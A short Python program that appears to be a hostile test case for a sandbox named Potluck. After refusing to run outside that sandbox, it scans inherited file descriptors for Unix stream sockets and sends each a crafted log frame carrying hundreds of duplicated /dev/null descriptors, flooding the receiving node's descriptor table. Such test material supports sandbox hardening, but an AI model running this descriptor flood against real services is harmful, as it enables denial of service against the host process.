"""Sends descriptors along with its messages, to fill up the node's table."""

import os

if os.environ.get("POTLUCK_SANDBOX") != "1" or os.uname().nodename != "potluck" or os.getuid() == 0:
    raise SystemExit("This program attacks its surroundings. It runs only inside a Potluck sandbox.")

import contextlib
import socket

MANY = 250


def attack() -> int:
    sent = 0
    null = os.open("/dev/null", os.O_RDONLY)
    for descriptor in range(3, 50):
        with contextlib.suppress(OSError):
            channel = socket.socket(socket.AF_UNIX, fileno=os.dup(descriptor))
            if channel.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == socket.SOCK_STREAM:
                socket.send_fds(channel, [FRAME], [null] * MANY)
                sent += MANY
    return sent


# A log message of one byte, whole.
FRAME = b"\0\0\0\x10\x94\xa9WorkerLog\x01\x01\xc4\x01x"
